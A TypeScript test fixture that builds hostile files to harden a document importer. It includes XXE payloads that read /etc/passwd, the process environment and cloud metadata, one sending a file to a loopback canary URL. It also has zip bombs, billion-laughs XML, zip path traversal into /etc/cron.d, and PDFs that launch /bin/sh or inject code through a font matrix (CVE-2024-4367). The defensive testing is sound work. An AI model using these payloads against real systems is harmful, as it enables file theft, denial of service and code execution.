import { deflateRawSync } from "node:zlib";
import { makeZip, type ZipPart } from "./zip";

/** A file that means harm, or that harm has come to. */
export interface HostileFile {
  /** what it tries */
  what: string;
  name: string;
  make: () => Uint8Array;
  /** what must come of it; `read` where nothing in it is harmful once only words are taken */
  outcome: "refused" | "read" | "either";
  /** must not be in the text */
  never?: RegExp;
}

const MB = 1024 * 1024;
const utf8 = (text: string) => new TextEncoder().encode(text);
/** What external parts and entities would bring in: the beginning of /etc/passwd, and of our own environment. */
const STOLEN = /root:x:0|PATH=|NEXTAUTH|canary/i;

const XML = '<?xml version="1.0" encoding="UTF-8"?>';
const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';
const docBody = (inner: string) => `${XML}<w:document ${W} ${R}><w:body>${inner}</w:body></w:document>`;
const para = (words: string) => `<w:p><w:r><w:t>${words}</w:t></w:r></w:p>`;

function docx(document: string, others: ZipPart[] = []): Uint8Array {
  const types = `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`;
  return makeZip([
    { name: "[Content_Types].xml", content: types },
    { name: "word/document.xml", content: document },
    ...others,
  ]);
}

function odt(content: string, others: ZipPart[] = []): Uint8Array {
  const mimetype = { name: "mimetype", content: "application/vnd.oasis.opendocument.text", isStored: true };
  return makeZip([mimetype, { name: "content.xml", content }, ...others]);
}

function epub(chapter: string, others: ZipPart[] = []): Uint8Array {
  const container = `${XML}<container><rootfiles><rootfile full-path="book.opf"/></rootfiles></container>`;
  const opf = `${XML}<package><manifest><item id="c" href="c.xhtml" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="c"/></spine></package>`;
  return makeZip([
    { name: "mimetype", content: "application/epub+zip", isStored: true },
    { name: "META-INF/container.xml", content: container },
    { name: "book.opf", content: opf },
    { name: "c.xhtml", content: chapter },
    ...others,
  ]);
}

/** Zeros, packed: a thousand times smaller. */
const packedZeros = (size: number) => deflateRawSync(Buffer.alloc(size, 0x20));

/** The ways of reaching outside by XML that have been tried on others; `%s` stands where the words are. */
const ENTITIES: [string, string][] = [
  ["an external file", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'],
  ["the environment", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///proc/self/environ">]>'],
  ["an endless device", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///dev/zero">]>'],
  ["an address", '<!DOCTYPE a [<!ENTITY x SYSTEM "http://127.0.0.1/canary">]>'],
  ["a secure address", '<!DOCTYPE a [<!ENTITY x SYSTEM "https://[::1]/canary">]>'],
  ["the metadata of a cloud", '<!DOCTYPE a [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]>'],
  ["ftp", '<!DOCTYPE a [<!ENTITY x SYSTEM "ftp://10.0.0.1/canary">]>'],
  ["a share", '<!DOCTYPE a [<!ENTITY x SYSTEM "\\\\\\\\10.0.0.1\\\\canary">]>'],
  ["a public identifier", '<!DOCTYPE a [<!ENTITY x PUBLIC "-//X//Y" "http://127.0.0.1/canary">]>'],
  ["an external DTD", '<!DOCTYPE a SYSTEM "http://127.0.0.1/canary.dtd">'],
  ["a public DTD", '<!DOCTYPE a PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://127.0.0.1/canary.dtd">'],
  ["a parameter entity", '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://127.0.0.1/canary.dtd"> %p;]>'],
  [
    "a parameter entity within another",
    '<!DOCTYPE a [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'http://127.0.0.1/?%f;\'>">%e;%s;]>',
  ],
  [
    "an entity in an attribute",
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname"><!ATTLIST a b CDATA "&x;">]>',
  ],
  ["lower case", '<!doctype a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'],
  ["a comment before it", '<!-- --><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'],
  ["white space within", '<!DOCTYPE\n\ta\n[<!ENTITY\n x SYSTEM "file:///etc/passwd">]>'],
  ["PHP", '<!DOCTYPE a [<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd">]>'],
  ["a jar", '<!DOCTYPE a [<!ENTITY x SYSTEM "jar:http://127.0.0.1!/canary">]>'],
  ["a notation", '<!DOCTYPE a [<!NOTATION n SYSTEM "http://127.0.0.1/canary">]>'],
];

function laughs(levels: number): string {
  const entities = Array.from({ length: levels }, (_, i) =>
    i === 0 ? '<!ENTITY l0 "ha">' : `<!ENTITY l${i} "${`&l${i - 1};`.repeat(10)}">`,
  );
  return `<!DOCTYPE a [${entities.join("")}]>`;
}

/** A PDF of one page out of bare parts; `extra` goes to the font, as a FontMatrix that is code did (CVE-2024-4367). */
export function makePdf(
  content: string,
  { font = "", catalog = "", pages = 1, more = [] as string[] } = {},
): Uint8Array {
  const kids = Array.from({ length: pages }, (_, i) => `${10 + i} 0 R`).join(" ");
  const objects = new Map<number, string>([
    [1, `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`],
    [2, `<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`],
    [3, `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica ${font} >>`],
    [4, `<< /Length ${content.length} >>\nstream\n${content}\nendstream`],
    ...more.map((text, i) => [5 + i, text] as const),
  ]);
  for (let i = 0; i < pages; i++) {
    objects.set(
      10 + i,
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 3 0 R >> >> >>",
    );
  }
  let out = "%PDF-1.7\n";
  const at = new Map<number, number>();
  for (const [id, text] of objects) {
    at.set(id, out.length);
    out += `${id} 0 obj\n${text}\nendobj\n`;
  }
  const xref = out.length;
  const last = Math.max(...objects.keys());
  out += `xref\n0 ${last + 1}\n0000000000 65535 f \n`;
  for (let id = 1; id <= last; id++) {
    const offset = at.get(id);
    out += offset === undefined ? "0000000000 65535 f \n" : `${String(offset).padStart(10, "0")} 00000 n \n`;
  }
  return utf8(`${out}trailer\n<< /Size ${last + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`);
}

const SAY = "BT /F1 12 Tf 72 700 Td (The clerk read the minutes aloud.) Tj ET";
const srtCue = (i: number) => `${i}\n00:00:01,000 --> 00:00:02,000\nWord ${i}\n\n`;

const archives: HostileFile[] = [
  [
    "a bomb in a Word file",
    "bomb.docx",
    () => docx("", [{ name: "word/media/x.bin", packed: packedZeros(40 * MB), claimedSize: 40 * MB }]),
  ],
  [
    "a bomb as the text itself",
    "text-bomb.docx",
    () => makeZip([{ name: "word/document.xml", packed: packedZeros(45 * MB), claimedSize: 45 * MB }]),
  ],
  [
    "a size that lies small",
    "liar.docx",
    () => makeZip([{ name: "word/document.xml", packed: packedZeros(45 * MB), claimedSize: 1_000 }]),
  ],
  [
    "a size of nothing",
    "zero.docx",
    () => makeZip([{ name: "word/document.xml", packed: packedZeros(30 * MB), claimedSize: 0 }]),
  ],
  [
    "a size that lies large",
    "boaster.docx",
    () => makeZip([{ name: "word/document.xml", content: docBody(para("Hi")), claimedSize: 4_000_000_000 }]),
  ],
  [
    "many parts that add up",
    "sum.docx",
    () =>
      makeZip(
        Array.from({ length: 30 }, (_, i) => ({
          name: `part${i}`,
          content: Buffer.alloc(4 * MB, `${i} abcdefghijklm`),
        })),
      ),
  ],
  [
    "65,535 files",
    "crowd.zip",
    () => makeZip(Array.from({ length: 65_535 }, (_, i) => ({ name: `${i}`, isStored: true }))),
  ],
  [
    "2,001 files",
    "crowd.docx",
    () => makeZip(Array.from({ length: 2_001 }, (_, i) => ({ name: `f${i}.txt`, content: "x" }))),
  ],
  [
    "a count that lies",
    "count.docx",
    () => makeZip([{ name: "word/document.xml", content: docBody(para("Hi")) }], { entryCount: 60_000 }),
  ],
  [
    "an archive in an archive",
    "nested.docx",
    () =>
      docx(docBody(para("Hi")), [
        { name: "word/inner.zip", content: makeZip([{ name: "a.txt", content: "a" }]) },
      ]),
  ],
  ["itself in itself", "quine.epub", () => epub("<p>Hi</p>", [{ name: "r/r.zip", content: "PK" }])],
  [
    "files over each other",
    "overlap.odt",
    () =>
      makeZip([
        { name: "content.xml", content: Buffer.alloc(9 * MB, "kernel ") },
        ...Array.from({ length: 10 }, (_, i) => ({
          name: `copy${i}`,
          content: Buffer.alloc(9 * MB, "kernel "),
          sharesWith: 0,
        })),
      ]),
  ],
  [
    "a link to a file of ours",
    "link.docx",
    () =>
      docx(docBody(para("Hi")), [{ name: "word/media/image1.png", content: "/etc/passwd", mode: 0o120777 }]),
  ],
  ["a device", "device.odt", () => odt("<a/>", [{ name: "Pictures/tty", mode: 0o020666 }])],
  [
    "a path upwards",
    "up.docx",
    () => docx(docBody(para("Hi")), [{ name: "../../etc/cron.d/x", content: "x" }]),
  ],
  [
    "a path from the root",
    "root.docx",
    () => docx(docBody(para("Hi")), [{ name: "/etc/cron.d/x", content: "x" }]),
  ],
  ["a path of Windows", "drive.odt", () => odt("<a/>", [{ name: "C:\\windows\\x", content: "x" }])],
  [
    "one name twice",
    "twice.docx",
    () =>
      makeZip([
        { name: "word/document.xml", content: docBody(para("One")) },
        { name: "word/document.xml", content: docBody(para("Two")) },
      ]),
  ],
  ["a locked part", "locked.docx", () => makeZip([{ name: "word/document.xml", content: "x", flags: 1 }])],
  [
    "a locked book",
    "drm.epub",
    () => epub("<p>Hi</p>", [{ name: "META-INF/encryption.xml", content: "<a/>" }]),
  ],
  [
    "an end in the middle",
    "cut.docx",
    () => docx(docBody(para("Hello there. ".repeat(5_000)))).slice(0, 400),
  ],
  [
    "a damaged middle",
    "bent.docx",
    () =>
      docx(docBody(para("Hello. ".repeat(900)))).map((byte, i) => (i > 250 && i < 300 ? byte ^ 0x5a : byte)),
  ],
  ["no text in it", "hollow.docx", () => makeZip([{ name: "readme", content: "x" }])],
  ["only its first bytes", "head.odt", () => utf8("PK\u0003\u0004")],
].map(([what, name, make]) => ({ what, name, make, outcome: "refused" }) as HostileFile);

const entities: HostileFile[] = ENTITIES.map(([what, dtd], i) => {
  const words = "<w:t>&x; The clerk spoke.</w:t>";
  const kind = i % 4;
  const made: [string, () => Uint8Array] =
    kind === 0
      ? [
          "docx",
          () =>
            docx(`${XML}${dtd}<w:document ${W}><w:body><w:p><w:r>${words}</w:r></w:p></w:body></w:document>`),
        ]
      : kind === 1
        ? ["odt", () => odt(`${XML}${dtd}<a><text><p>&x; The clerk spoke.</p></text></a>`)]
        : kind === 2
          ? ["epub", () => epub("<p>Hi</p>", [{ name: "zzz", content: "" }])]
          : [
              "docx",
              () =>
                docx(docBody(para("Hi")), [
                  { name: "docProps/core.xml", content: `${XML}${dtd}<a><title>&x;</title></a>` },
                ]),
            ];
  const [ending, make] =
    kind === 2
      ? ([
          "docx",
          () => docx(docBody(para("Hi")), [{ name: "word/styles.xml", content: `${XML}${dtd}<a/>` }]),
        ] as const)
      : made;
  return {
    what: `XML that reaches for ${what}`,
    name: `xxe-${i}.${ending}`,
    make,
    outcome: "refused",
    never: STOLEN,
  };
});

const markup: HostileFile[] = [
  {
    what: "a billion laughs",
    name: "laughs.docx",
    make: () => docx(`${XML}${laughs(10)}<a>&l9;</a>`),
    outcome: "refused",
  },
  {
    what: "quadratic laughs",
    name: "square.odt",
    make: () => odt(`${XML}<!DOCTYPE a [<!ENTITY x "${"x".repeat(50_000)}">]><a>${"&x;".repeat(50_000)}</a>`),
    outcome: "refused",
  },
  {
    what: "a chapter with a DTD",
    name: "dtd.epub",
    make: () => epub(`<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><p>&x;</p>`),
    outcome: "refused",
    never: STOLEN,
  },
  {
    what: "XML 10,000 deep",
    name: "deep.docx",
    make: () => docx(`${XML}${"<a>".repeat(10_000)}${"</a>".repeat(10_000)}`),
    outcome: "refused",
  },
  {
    what: "a tag without end",
    name: "open.odt",
    make: () => odt(`${XML}<a ${"b='".repeat(100_000)}`),
    outcome: "refused",
  },
  {
    what: "an external picture",
    name: "picture.docx",
    make: () =>
      docx(
        docBody(
          `<w:p><w:r><w:drawing><a:blip xmlns:a="a" r:link="rId1"/></w:drawing><w:t>The clerk spoke.</w:t></w:r></w:p>`,
        ),
        [
          {
            name: "word/_rels/document.xml.rels",
            content: `${XML}<Relationships><Relationship Id="rId1" Target="file:///etc/passwd" TargetMode="External"/></Relationships>`,
          },
        ],
      ),
    outcome: "read",
    never: STOLEN,
  },
  {
    what: "a picture from an endless device",
    name: "zero-picture.docx",
    make: () =>
      docx(
        docBody(
          `<w:p><w:r><w:drawing><a:blip xmlns:a="a" r:link="rId1"/></w:drawing><w:t>The clerk spoke.</w:t></w:r></w:p>`,
        ),
        [
          {
            name: "word/_rels/document.xml.rels",
            content: `${XML}<Relationships><Relationship Id="rId1" Target="/dev/zero" TargetMode="External"/></Relationships>`,
          },
        ],
      ),
    outcome: "read",
    never: STOLEN,
  },
  {
    what: "a field that includes a file",
    name: "field.docx",
    make: () =>
      docx(
        docBody(
          `<w:p><w:r><w:instrText>INCLUDETEXT "/etc/passwd"</w:instrText></w:r><w:r><w:t>The clerk spoke.</w:t></w:r></w:p>`,
        ),
      ),
    outcome: "read",
    never: /INCLUDETEXT|root:/,
  },
  {
    what: "HTML 5,000 deep",
    name: "deep.html",
    make: () => utf8(`${"<div>".repeat(5_000)}deep${"</div>".repeat(5_000)}`),
    outcome: "refused",
  },
  {
    what: "HTML of 150,000 elements",
    name: "wide.html",
    make: () => utf8("<b>x</b>".repeat(150_000)),
    outcome: "refused",
  },
  {
    what: "scripts in HTML",
    name: "script.html",
    make: () =>
      utf8(
        `<p>The clerk spoke.</p><script>fetch("http://127.0.0.1/canary")</script><svg><script>canary</script></svg><math><mtext><img src=x onerror=canary></mtext></math><template>canary</template><noscript>canary</noscript>`,
      ),
    outcome: "read",
    never: /canary/,
  },
  {
    what: "a prototype in JSON-LD",
    name: "proto.html",
    make: () =>
      utf8(
        `<script type="application/ld+json">{"@type":"NewsArticle","__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"headline":"Hi"}</script><p>The clerk spoke.</p>`,
      ),
    outcome: "read",
  },
  { what: "NUL bytes", name: "nul.html", make: () => utf8("<p>a\0b</p>\0\0\0"), outcome: "refused" },
  {
    what: "marks in marks in Markdown",
    name: "nest.md",
    make: () => utf8(`${">".repeat(20_000)} x`),
    outcome: "either",
  },
  {
    what: "a million brackets",
    name: "brackets.md",
    make: () => utf8("[".repeat(200_000)),
    outcome: "either",
  },
  {
    what: "a million stars",
    name: "stars.md",
    make: () => utf8(`${"*a ".repeat(100_000)}`),
    outcome: "either",
  },
];

const texts: HostileFile[] = [
  { what: "1 MB of one letter", name: "one.txt", make: () => utf8("a".repeat(MB)), outcome: "read" },
  {
    what: "1 MB of spaces and a dot",
    name: "spaces.txt",
    make: () => utf8(`${" ".repeat(MB)}.x`),
    outcome: "read",
  },
  {
    what: "1 MB of line ends",
    name: "lines.txt",
    make: () => utf8(`${"\r\n".repeat(MB / 2)}x`),
    outcome: "read",
  },
  {
    what: "500,000 accents on one letter",
    name: "accents.txt",
    make: () => utf8(`a${"\u0301".repeat(500_000)}`),
    outcome: "either",
  },
  {
    what: "colons that want to be names",
    name: "colons.srt",
    make: () => utf8(`1\n00:00:01,000 --> 00:00:02,000\n${"A ".repeat(200_000)}:x\n`),
    outcome: "either",
  },
  {
    what: "tags without end in captions",
    name: "tags.vtt",
    make: () => utf8(`WEBVTT\n\n00:01.000 --> 00:02.000\n${"<v ".repeat(100_000)}\n`),
    outcome: "either",
  },
  {
    what: "20,001 captions",
    name: "many.srt",
    make: () => utf8(Array.from({ length: 20_001 }, (_, i) => srtCue(i)).join("")),
    outcome: "refused",
  },
  {
    what: "20 MB of captions",
    name: "large.srt",
    make: () => utf8(srtCue(1).repeat(500_000)),
    outcome: "refused",
  },
  { what: "no caption", name: "none.vtt", make: () => utf8("WEBVTT\n\nhello"), outcome: "refused" },
  { what: "JSON 100,000 deep", name: "deep.json", make: () => utf8("[".repeat(100_000)), outcome: "refused" },
  {
    what: "JSON with a prototype",
    name: "proto.json",
    make: () =>
      utf8(
        `{"segments":[{"text":"The clerk spoke.","start":0,"end":1,"__proto__":{"polluted":true},"speaker":"Ada"}],"constructor":{"prototype":{"polluted":true}}}`,
      ),
    outcome: "read",
  },
  {
    what: "JSON that is cut off",
    name: "cut.json",
    make: () => utf8(`{"segments":[{"text":"The`),
    outcome: "refused",
  },
  {
    what: "JSON of no transcript",
    name: "other.json",
    make: () => utf8(`{"a":[1,2,3]}`),
    outcome: "refused",
  },
  {
    what: "half a letter",
    name: "half.txt",
    make: () => new Uint8Array([0x61, 0xe2, 0x82]),
    outcome: "refused",
  },
  {
    what: "a program",
    name: "program.txt",
    make: () => utf8(`\u007fELF\u0002\u0001\u0001${"\0".repeat(64)}`),
    outcome: "refused",
  },
  { what: "a PDF that says it is text", name: "minutes.txt", make: () => makePdf(SAY), outcome: "refused" },
  {
    what: "a zip that says it is a PDF",
    name: "minutes.pdf",
    make: () => makeZip([{ name: "a", content: "a" }]),
    outcome: "refused",
  },
  {
    what: "a picture that says it is a page",
    name: "page.html",
    make: () => new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0]),
    outcome: "refused",
  },
  {
    what: "an old Word file by its new name",
    name: "old.docx",
    make: () => new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
    outcome: "refused",
  },
  { what: "nothing", name: "nothing.pdf", make: () => new Uint8Array(), outcome: "refused" },
];

const pdfs: HostileFile[] = [
  {
    what: "code as a font's matrix",
    name: "matrix.pdf",
    make: () => makePdf(SAY, { font: "/FontMatrix [0.001 0 0 0.001 0 (0\\); globalThis.polluted = 1; //)]" }),
    outcome: "either",
  },
  {
    what: "a script at its opening",
    name: "script.pdf",
    make: () => makePdf(SAY, { catalog: "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>" }),
    outcome: "read",
  },
  {
    what: "a program to launch",
    name: "launch.pdf",
    make: () => makePdf(SAY, { catalog: "/OpenAction << /S /Launch /F (/bin/sh) >>" }),
    outcome: "read",
  },
  { what: "501 pages", name: "pages.pdf", make: () => makePdf(SAY, { pages: 501 }), outcome: "refused" },
  {
    what: "two million letters on a page",
    name: "dense.pdf",
    make: () =>
      makePdf(`BT /F1 1 Tf ${"(word word word word word word word word) Tj 1 0 Td ".repeat(60_000)}ET`),
    outcome: "either",
  },
  { what: "nothing drawn", name: "blank.pdf", make: () => makePdf(""), outcome: "refused" },
  {
    what: "pages that are their own children",
    name: "loop.pdf",
    make: () =>
      utf8(
        "%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\ntrailer<</Root 1 0 R>>",
      ),
    outcome: "refused",
  },
  {
    what: "a stream that says it is endless",
    name: "endless.pdf",
    make: () => utf8("%PDF-1.7\n1 0 obj<</Length 99999999999>>stream\nx"),
    outcome: "refused",
  },
  {
    what: "a PDF that is cut off",
    name: "cut.pdf",
    make: () => makePdf(SAY).slice(0, 300),
    outcome: "either",
  },
  { what: "only a mark", name: "mark.pdf", make: () => utf8("%PDF-1.7"), outcome: "refused" },
  { what: "21 MB", name: "heavy.pdf", make: () => new Uint8Array(21 * MB), outcome: "refused" },
];

/** More than sixty files, each made when it is asked for: some are large. */
export const HOSTILE: readonly HostileFile[] = [...archives, ...entities, ...markup, ...texts, ...pdfs];
